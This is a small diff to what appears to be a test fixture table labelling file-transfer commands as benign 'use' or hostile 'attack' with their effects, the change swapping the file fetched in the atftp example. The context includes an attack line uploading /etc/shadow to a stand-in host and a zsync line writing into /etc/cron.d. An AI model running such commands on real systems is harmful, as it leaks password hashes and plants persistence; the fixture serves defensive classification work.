@@ -101,7 +101,7 @@ export const fileTransfer1: ExampleTable = {
       'zsync -o /etc/cron.d/job https://example.com/job.zsync → fetch https://example.com/job.zsync; write /etc/cron.d/job',
   },
   atftp: {
-    use: 'atftp --get -r notes.txt -l notes.txt example.com → write notes.txt; send example.com',
+    use: 'atftp --get -r /etc/motd -l notes.txt example.com → write notes.txt; send example.com',
     attack: 'atftp --put -l /etc/shadow 192.0.2.7 → read /etc/shadow; send 192.0.2.7',
   },
   ftp: {
